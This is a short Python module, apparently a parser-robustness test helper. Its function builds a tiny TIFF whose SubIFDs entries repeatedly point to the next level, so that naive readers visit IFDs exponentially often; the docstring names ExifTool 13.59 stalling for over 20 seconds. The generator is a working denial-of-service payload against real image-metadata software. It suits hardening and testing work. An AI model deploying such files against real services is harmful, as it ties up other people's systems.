"""Small files that cost a reader far more than they weigh."""

import struct


def slow_tiff(*, levels: int = 6, fan_out: int = 8) -> bytes:
    """Return a TIFF of a few hundred bytes whose IFDs a naive reader visits `fan_out ** levels` times.

    Each IFD has one SubIFDs entry (tag 0x014A, TIFF Technical Note 1) that names the next level's IFD
    `fan_out` times. With the defaults ExifTool 13.59 works on it for more than 20 seconds.
    """
    entry_bytes = 2 + 12 + 4  # count, one entry, offset of the next IFD
    level_bytes = entry_bytes + 4 * fan_out
    content = b"II*\x00" + struct.pack("<I", 8)
    for level in range(levels):
        at = 8 + level * level_bytes
        content += struct.pack("<HHHIII", 1, 0x014A, 4, fan_out, at + entry_bytes, 0)
        content += struct.pack("<I", at + level_bytes) * fan_out
    return content + struct.pack("<HHHIII", 1, 0x0100, 4, 1, 1, 0)
